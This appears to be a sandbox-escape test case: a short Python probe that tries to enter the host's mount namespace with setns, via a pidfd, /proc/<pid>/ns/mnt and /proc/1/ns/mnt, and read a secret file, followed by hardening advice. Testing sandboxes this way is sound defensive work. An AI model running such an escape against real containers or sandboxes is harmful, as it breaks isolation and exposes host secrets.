# title: Enter the namespaces of another process
# tries: Enters the mount namespace of a process of the host by setns, from a process descriptor and from /proc, and reads a file there.
# impact: Escape
# proof: secret
# host: run
# advice: Refuse setns by seccomp, give the sandbox no CAP_SYS_ADMIN, and run it in a pid namespace of its own.


def attempt(host):
    import os

    refusal = None
    mount_namespace = 0x20000
    for find in (
        lambda: os.pidfd_open(host["pid"]),
        lambda: os.open(f"/proc/{host['pid']}/ns/mnt", os.O_RDONLY),
        lambda: os.open("/proc/1/ns/mnt", os.O_RDONLY),
    ):
        try:
            setns(find(), mount_namespace)
            with open(host["secret_file"]) as file:
                return file.read()
        except OSError as error:
            refusal = error
    raise refusal


def setns(descriptor, kind):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(descriptor, kind) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
